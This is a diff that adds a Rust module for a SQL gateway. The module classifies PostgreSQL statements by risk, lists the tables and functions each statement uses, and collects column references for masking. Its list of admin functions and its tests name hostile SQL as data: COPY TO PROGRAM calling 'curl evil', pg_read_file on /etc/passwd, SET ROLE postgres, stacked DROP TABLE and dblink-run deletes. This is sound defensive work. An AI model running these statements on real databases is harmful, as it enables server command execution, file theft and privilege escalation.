@@ -1,0 +1,589 @@
+//! SQL analysis for the PostgreSQL dialect with PostgreSQL's own grammar
+//! (libpg_query): what kind of statement this is, which tables it reads
+//! and writes, which functions it calls.
+//!
+//! A string may hold several statements; the strictest wins, and nested
+//! statements count (a `DELETE` inside a CTE makes a write). Text that does
+//! not parse is reported as such, and the policy denies it unless a rule
+//! allows unparsed statements (fail closed).
+
+use std::collections::BTreeSet;
+
+use serde::Serialize;
+
+pub use gatehouse_core::policy::spec::Class;
+
+/// What a statement string does.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct Analysis {
+    /// `None` when the text does not parse.
+    pub class: Option<Class>,
+    /// Why the text did not parse.
+    pub parse_error: Option<String>,
+    /// Tables (as written, lower-cased by the parser unless quoted;
+    /// `schema.table` when qualified) read.
+    pub tables_read: BTreeSet<String>,
+    /// Tables inserted into, updated, deleted from, copied into, or whose
+    /// definition changes.
+    pub tables_written: BTreeSet<String>,
+    /// Functions called or defined, unqualified and lower-case.
+    pub functions: BTreeSet<String>,
+    /// Why the class is what it is, when it is not the statement's own kind
+    /// (e.g. "calls pg_terminate_backend"). For `policy test` and errors.
+    pub reasons: Vec<String>,
+}
+
+/// Functions that act on the server, its files or other sessions rather
+/// than on data: calling one makes a statement `admin`.
+const ADMIN_FUNCTIONS: &[&str] = &[
+    "pg_terminate_backend",
+    "pg_cancel_backend",
+    "pg_reload_conf",
+    "pg_rotate_logfile",
+    "pg_promote",
+    "pg_switch_wal",
+    "pg_create_restore_point",
+    "pg_backup_start",
+    "pg_backup_stop",
+    "pg_start_backup",
+    "pg_stop_backup",
+    "pg_read_file",
+    "pg_read_binary_file",
+    "pg_stat_file",
+    "pg_ls_dir",
+    "pg_ls_logdir",
+    "pg_ls_waldir",
+    "pg_ls_tmpdir",
+    "pg_ls_archive_statusdir",
+    "pg_ls_logicalsnapdir",
+    "pg_ls_logicalmapdir",
+    "pg_ls_replslotdir",
+    "pg_file_write",
+    "pg_file_rename",
+    "pg_file_unlink",
+    "pg_file_sync",
+    "pg_logdir_ls",
+    "lo_import",
+    "lo_export",
+    "set_config",
+    "dblink",
+    "dblink_exec",
+    "dblink_connect",
+    "dblink_connect_u",
+    "dblink_send_query",
+    "dblink_open",
+    "dblink_fetch",
+    "dblink_get_result",
+    "pg_create_physical_replication_slot",
+    "pg_create_logical_replication_slot",
+    "pg_drop_replication_slot",
+    "pg_copy_physical_replication_slot",
+    "pg_copy_logical_replication_slot",
+    "pg_logical_emit_message",
+    "pg_replication_origin_create",
+    "pg_replication_origin_drop",
+    "pg_replication_origin_advance",
+    "pg_replication_origin_session_setup",
+    "pg_import_system_collations",
+    "pg_log_backend_memory_contexts",
+    "pg_wal_replay_pause",
+    "pg_wal_replay_resume",
+    "pg_drop_subscription",
+    // Run a query given as text, out of the parser's sight.
+    "query_to_xml",
+    "query_to_xml_and_xmlschema",
+    "query_to_xmlschema",
+    "cursor_to_xml",
+    "cursor_to_xmlschema",
+    // Read whole tables, schemas or the database by name.
+    "table_to_xml",
+    "table_to_xml_and_xmlschema",
+    "table_to_xmlschema",
+    "schema_to_xml",
+    "schema_to_xml_and_xmlschema",
+    "schema_to_xmlschema",
+    "database_to_xml",
+    "database_to_xml_and_xmlschema",
+    "database_to_xmlschema",
+];
+
+/// Functions that change data when called.
+const WRITE_FUNCTIONS: &[&str] = &[
+    "setval",
+    "nextval",
+    "lo_unlink",
+    "lo_create",
+    "lo_creat",
+    "lo_from_bytea",
+    "lo_put",
+    "lo_truncate",
+    "lowrite",
+    "pg_advisory_lock",
+    "pg_notify",
+];
+
+/// The class of one statement node by its type name.
+fn class_of(stmt_type: &str) -> Class {
+    match stmt_type {
+        "TransactionStmt" => Class::Transaction,
+        "SelectStmt" | "CopyStmt" | "DeclareCursorStmt" | "FetchStmt" | "ClosePortalStmt"
+        | "ExplainStmt" | "VariableShowStmt" => Class::Read,
+        "InsertStmt" | "UpdateStmt" | "DeleteStmt" | "MergeStmt" | "TruncateStmt" | "CallStmt"
+        | "LockStmt" | "RefreshMatViewStmt" => Class::Write,
+        "ListenStmt" | "UnlistenStmt" | "NotifyStmt" | "DiscardStmt" | "DeallocateStmt"
+        | "PrepareStmt" | "ExecuteStmt" | "ConstraintsSetStmt" | "VariableSetStmt" => Class::Other,
+        "GrantStmt"
+        | "GrantRoleStmt"
+        | "CreateRoleStmt"
+        | "AlterRoleStmt"
+        | "AlterRoleSetStmt"
+        | "DropRoleStmt"
+        | "AlterDefaultPrivilegesStmt"
+        | "ReassignOwnedStmt"
+        | "DropOwnedStmt"
+        | "CreatePolicyStmt"
+        | "AlterPolicyStmt"
+        | "SecLabelStmt"
+        | "AlterOwnerStmt" => Class::Dcl,
+        "AlterSystemStmt"
+        | "VacuumStmt"
+        | "ClusterStmt"
+        | "ReindexStmt"
+        | "CheckPointStmt"
+        | "LoadStmt"
+        | "DoStmt"
+        | "CreatedbStmt"
+        | "DropdbStmt"
+        | "AlterDatabaseStmt"
+        | "AlterDatabaseSetStmt"
+        | "AlterDatabaseRefreshCollStmt"
+        | "CreateTableSpaceStmt"
+        | "DropTableSpaceStmt"
+        | "AlterTableSpaceOptionsStmt"
+        | "AlterTableMoveAllStmt"
+        | "CreateExtensionStmt"
+        | "AlterExtensionStmt"
+        | "AlterExtensionContentsStmt"
+        | "CreateFdwStmt"
+        | "AlterFdwStmt"
+        | "CreateForeignServerStmt"
+        | "AlterForeignServerStmt"
+        | "CreateUserMappingStmt"
+        | "AlterUserMappingStmt"
+        | "DropUserMappingStmt"
+        | "ImportForeignSchemaStmt"
+        | "CreateSubscriptionStmt"
+        | "AlterSubscriptionStmt"
+        | "DropSubscriptionStmt"
+        | "CreatePublicationStmt"
+        | "AlterPublicationStmt"
+        | "CreateEventTrigStmt"
+        | "AlterEventTrigStmt"
+        | "CreateConversionStmt"
+        | "CreatePLangStmt"
+        | "AlterCollationStmt" => Class::Admin,
+        s if s.starts_with("Create")
+            || s.starts_with("Alter")
+            || s.starts_with("Drop")
+            || s == "RenameStmt"
+            || s == "CommentStmt"
+            || s == "DefineStmt"
+            || s == "CompositeTypeStmt"
+            || s == "IndexStmt"
+            || s == "ViewStmt"
+            || s == "RuleStmt" =>
+        {
+            Class::Ddl
+        }
+        // Parts of statements the walker also reports.
+        "AlterTableCmd" | "RawStmt" | "WithClause" | "CommonTableExpr" => Class::Read,
+        // A kind of statement this version does not know: the strictest class.
+        _ => Class::Admin,
+    }
+}
+
+/// Analyses a statement string.
+pub fn analyze(sql: &str) -> Analysis {
+    let mut a = Analysis {
+        class: None,
+        parse_error: None,
+        tables_read: BTreeSet::new(),
+        tables_written: BTreeSet::new(),
+        functions: BTreeSet::new(),
+        reasons: Vec::new(),
+    };
+    if sql.contains('\0') {
+        a.parse_error = Some("the text contains a NUL byte".into());
+        return a;
+    }
+    let summary = match pg_query::summary(sql, pg_query::ParserOptions::DEFAULT, -1) {
+        Ok(s) => s,
+        Err(e) => {
+            a.parse_error = Some(e.to_string());
+            return a;
+        }
+    };
+    if summary.statement_types.is_empty() {
+        // Only comments or whitespace: nothing runs.
+        a.class = Some(Class::Other);
+        return a;
+    }
+    let mut class = Class::Transaction;
+    let raise = |class: &mut Class, c: Class| {
+        if c > *class {
+            *class = c;
+        }
+    };
+    let mut needs_tree = false;
+    for t in &summary.statement_types {
+        raise(&mut class, class_of(t));
+        needs_tree |= matches!(t.as_str(), "CopyStmt" | "VariableSetStmt" | "ExplainStmt");
+    }
+    for t in &summary.tables {
+        match t.context {
+            pg_query::protobuf::summary_result::Context::Dml => {
+                a.tables_written.insert(t.name.clone());
+                raise(&mut class, Class::Write);
+            }
+            pg_query::protobuf::summary_result::Context::Ddl => {
+                a.tables_written.insert(t.name.clone());
+                // TRUNCATE names its tables in DDL context; it removes rows.
+                let truncate = summary.statement_types.iter().all(|s| s == "TruncateStmt");
+                raise(&mut class, if truncate { Class::Write } else { Class::Ddl });
+            }
+            _ => {
+                a.tables_read.insert(t.name.clone());
+            }
+        }
+    }
+    for f in &summary.functions {
+        let name = f.function_name.to_ascii_lowercase();
+        if matches!(f.context, pg_query::protobuf::summary_result::Context::Call) {
+            if ADMIN_FUNCTIONS.contains(&name.as_str()) {
+                raise(&mut class, Class::Admin);
+                a.reasons.push(format!("calls {name}"));
+            } else if WRITE_FUNCTIONS.contains(&name.as_str()) {
+                raise(&mut class, Class::Write);
+                a.reasons.push(format!("calls {name}"));
+            }
+        }
+        a.functions.insert(name);
+    }
+    if needs_tree {
+        match pg_query::parse(sql, pg_query::ParserOptions::DEFAULT) {
+            Ok(tree) => {
+                for (node, _, _, _) in tree.protobuf.nodes() {
+                    for (c, why) in refine(node, &mut a) {
+                        raise(&mut class, c);
+                        a.reasons.push(why);
+                    }
+                }
+            }
+            Err(e) => {
+                a.parse_error = Some(e.to_string());
+                return a;
+            }
+        }
+    }
+    a.class = Some(class);
+    a
+}
+
+/// Statement kinds whose class depends on their details.
+fn refine(node: pg_query::NodeRef<'_>, a: &mut Analysis) -> Vec<(Class, String)> {
+    let mut out = Vec::new();
+    let mut raise = |c: Class, why: String| out.push((c, why));
+    match node {
+        pg_query::NodeRef::CopyStmt(c) => {
+            let table = c.relation.as_ref().map(|r| {
+                if r.schemaname.is_empty() {
+                    r.relname.clone()
+                } else {
+                    format!("{}.{}", r.schemaname, r.relname)
+                }
+            });
+            if c.is_program {
+                raise(
+                    Class::Admin,
+                    "COPY … PROGRAM runs a program on the database server".into(),
+                );
+            } else if c.is_from {
+                if let Some(t) = table {
+                    a.tables_written.insert(t);
+                }
+                raise(Class::Write, "COPY … FROM loads rows into a table".into());
+            } else {
+                if let Some(t) = table {
+                    a.tables_read.insert(t);
+                }
+                if !c.filename.is_empty() {
+                    raise(
+                        Class::Admin,
+                        "COPY … TO a file writes on the database server".into(),
+                    );
+                }
+            }
+            if c.is_from && !c.filename.is_empty() && !c.is_program {
+                raise(
+                    Class::Admin,
+                    "COPY … FROM a file reads the database server's files".into(),
+                );
+            }
+        }
+        pg_query::NodeRef::VariableSetStmt(v) => {
+            let name = v.name.to_ascii_lowercase();
+            if matches!(
+                name.as_str(),
+                "role" | "session_authorization" | "session authorization"
+            ) {
+                raise(
+                    Class::Dcl,
+                    format!("SET {name} changes whose privileges apply"),
+                );
+            }
+        }
+        pg_query::NodeRef::ExplainStmt(e) => {
+            let analyze = e.options.iter().any(|o| {
+                matches!(&o.node, Some(pg_query::NodeEnum::DefElem(d)) if d.defname.eq_ignore_ascii_case("analyze"))
+            });
+            if analyze {
+                a.reasons
+                    .push("EXPLAIN ANALYZE runs the statement it explains".into());
+            }
+        }
+        _ => {}
+    }
+    out
+}
+
+/// The columns a statement refers to, for masking: a computed result
+/// column (no table origin) is masked when the statement mentions a masked
+/// column, a `*`, or a masked table as a whole row (`row_to_json(c)`).
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct ColumnRefs {
+    /// Last name of every column reference, lower-case (`c.email` → `email`;
+    /// a bare `c` is listed too: it may be a whole-row reference).
+    pub names: BTreeSet<String>,
+    /// A `*` appears (`SELECT *`, `c.*`, `count(*)` does not count).
+    pub star: bool,
+    /// Tables referenced with their aliases: (`schema.table` or `table`, alias).
+    pub relations: Vec<(String, Option<String>)>,
+    /// The statement copies data out (`COPY … TO`).
+    pub copy_out: bool,
+}
+
+/// Column references of a statement; `None` when it does not parse.
+///
+/// The whole parse tree is walked (through its serialised form, so that no
+/// kind of node is skipped: a reference hidden in `(c).email` or any other
+/// construct is still found).
+pub fn column_refs(sql: &str) -> Option<ColumnRefs> {
+    if sql.contains('\0') {
+        return None;
+    }
+    let tree = pg_query::parse(sql, pg_query::ParserOptions::DEFAULT).ok()?;
+    let value = serde_json::to_value(&tree.protobuf).ok()?;
+    let mut refs = ColumnRefs::default();
+    walk(&value, &mut refs, 0)?;
+    Some(refs)
+}
+
+/// Deeper trees than this are not analysed (the statement counts as
+/// unparsed, which fails closed).
+const MAX_TREE_DEPTH: usize = 2000;
+
+fn walk(v: &serde_json::Value, refs: &mut ColumnRefs, depth: usize) -> Option<()> {
+    if depth > MAX_TREE_DEPTH {
+        return None;
+    }
+    match v {
+        serde_json::Value::Array(items) => {
+            for i in items {
+                walk(i, refs, depth + 1)?;
+            }
+        }
+        serde_json::Value::Object(map) => {
+            for (k, child) in map {
+                match k.as_str() {
+                    "ColumnRef" => {
+                        let last = child
+                            .get("fields")
+                            .and_then(|f| f.as_array())
+                            .and_then(|f| f.last())
+                            .and_then(|n| n.get("node"));
+                        if let Some(n) = last {
+                            if let Some(s) = n
+                                .get("String")
+                                .and_then(|s| s.get("sval"))
+                                .and_then(|s| s.as_str())
+                            {
+                                refs.names.insert(s.to_lowercase());
+                            } else if n.get("AStar").is_some() {
+                                refs.star = true;
+                            }
+                        }
+                    }
+                    "RangeVar" => {
+                        let text = |f: &str| child.get(f).and_then(|x| x.as_str()).unwrap_or("");
+                        let name = if text("schemaname").is_empty() {
+                            text("relname").to_lowercase()
+                        } else {
+                            format!("{}.{}", text("schemaname"), text("relname")).to_lowercase()
+                        };
+                        let alias = child
+                            .get("alias")
+                            .and_then(|a| a.get("aliasname"))
+                            .and_then(|a| a.as_str())
+                            .map(str::to_lowercase);
+                        refs.relations.push((name, alias));
+                    }
+                    "CopyStmt"
+                        if !child
+                            .get("is_from")
+                            .and_then(|b| b.as_bool())
+                            .unwrap_or(false) =>
+                    {
+                        refs.copy_out = true;
+                    }
+                    _ => {}
+                }
+                walk(child, refs, depth + 1)?;
+            }
+        }
+        _ => {}
+    }
+    Some(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn class(sql: &str) -> Class {
+        analyze(sql)
+            .class
+            .unwrap_or_else(|| panic!("{sql:?} should parse: {:?}", analyze(sql).parse_error))
+    }
+
+    #[test]
+    fn classes() {
+        for (sql, want) in [
+            ("SELECT 1", Class::Read),
+            ("select * from t where a = 1", Class::Read),
+            ("INSERT INTO t VALUES (1)", Class::Write),
+            ("UPDATE t SET a = 1", Class::Write),
+            ("DELETE FROM t", Class::Write),
+            (
+                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
+                Class::Write,
+            ),
+            ("TRUNCATE t", Class::Write),
+            ("CREATE TABLE x (a int)", Class::Ddl),
+            ("ALTER TABLE x ADD COLUMN b int", Class::Ddl),
+            ("DROP TABLE x", Class::Ddl),
+            ("CREATE INDEX ON x (a)", Class::Ddl),
+            ("GRANT SELECT ON t TO bob", Class::Dcl),
+            ("CREATE ROLE bob", Class::Dcl),
+            ("ALTER ROLE bob SUPERUSER", Class::Dcl),
+            ("SET ROLE postgres", Class::Dcl),
+            ("SET SESSION AUTHORIZATION postgres", Class::Dcl),
+            ("SET search_path = public", Class::Other),
+            ("ALTER SYSTEM SET work_mem = '1GB'", Class::Admin),
+            ("VACUUM t", Class::Admin),
+            ("DO $$ BEGIN DELETE FROM t; END $$", Class::Admin),
+            ("BEGIN", Class::Transaction),
+            ("COMMIT", Class::Transaction),
+            ("SHOW work_mem", Class::Read),
+            ("LISTEN x", Class::Other),
+            ("COPY t FROM STDIN", Class::Write),
+            ("COPY t TO STDOUT", Class::Read),
+            ("COPY (SELECT 1) TO STDOUT", Class::Read),
+            ("COPY t TO PROGRAM 'curl evil'", Class::Admin),
+            ("COPY t FROM PROGRAM 'id'", Class::Admin),
+            ("COPY t TO '/tmp/x'", Class::Admin),
+            ("SELECT pg_terminate_backend(123)", Class::Admin),
+            (
+                "select PG_CATALOG.pg_read_file('/etc/passwd')",
+                Class::Admin,
+            ),
+            ("SELECT set_config('role', 'postgres', false)", Class::Admin),
+            (
+                "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)",
+                Class::Admin,
+            ),
+            ("SELECT lo_export(1, '/tmp/x')", Class::Admin),
+            (
+                "SELECT query_to_xml('delete from t returning *', true, true, '')",
+                Class::Admin,
+            ),
+            (
+                "WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x",
+                Class::Write,
+            ),
+            ("SELECT 1; DROP TABLE t", Class::Ddl),
+            ("SELECT 1; GRANT ALL ON t TO x; VACUUM", Class::Admin),
+            ("SELECT * INTO newt FROM t", Class::Ddl),
+            ("CREATE TABLE a AS SELECT * FROM t", Class::Ddl),
+            ("EXPLAIN ANALYZE DELETE FROM t", Class::Write),
+            ("SELECT setval('s', 1)", Class::Write),
+            ("", Class::Other),
+            ("-- just a comment", Class::Other),
+        ] {
+            assert_eq!(class(sql), want, "{sql}");
+        }
+    }
+
+    #[test]
+    fn tables_and_functions() {
+        let a = analyze(
+            "WITH gone AS (DELETE FROM public.orders RETURNING *) SELECT c.email FROM customers c JOIN gone ON true WHERE lower(c.name) = 'x'",
+        );
+        assert!(a.tables_written.contains("public.orders"), "{a:?}");
+        assert!(a.tables_read.contains("customers"), "{a:?}");
+        assert!(
+            !a.tables_read.contains("gone"),
+            "CTE names are not tables: {a:?}"
+        );
+        assert!(a.functions.contains("lower"));
+        let a = analyze("COPY shop.customers FROM STDIN");
+        assert!(a.tables_written.contains("shop.customers"), "{a:?}");
+        let a = analyze("UPDATE t SET a = (SELECT max(b) FROM u)");
+        assert!(
+            a.tables_written.contains("t") && a.tables_read.contains("u"),
+            "{a:?}"
+        );
+    }
+
+    #[test]
+    fn unparsable_text_says_why() {
+        let a = analyze("SELEC 1");
+        assert_eq!(a.class, None);
+        assert!(
+            a.parse_error
+                .as_deref()
+                .unwrap_or("")
+                .contains("syntax error"),
+            "{a:?}"
+        );
+        assert_eq!(analyze("SELECT 1\0; DROP TABLE t").class, None);
+    }
+
+    #[test]
+    fn column_references() {
+        let r = column_refs("SELECT upper(c.email) AS x, row_to_json(o) FROM public.customers c JOIN orders o ON true").expect("parses");
+        assert!(r.names.contains("email") && r.names.contains("o"), "{r:?}");
+        assert!(!r.star);
+        assert!(
+            r.relations
+                .contains(&("public.customers".into(), Some("c".into()))),
+            "{r:?}"
+        );
+        assert!(column_refs("SELECT * FROM t").expect("parses").star);
+        assert!(
+            !column_refs("SELECT count(*) FROM t").expect("parses").star,
+            "count(*) reads no column"
+        );
+        assert!(column_refs("COPY t TO STDOUT").expect("parses").copy_out);
+        assert!(column_refs("SELEC").is_none());
+    }
+}
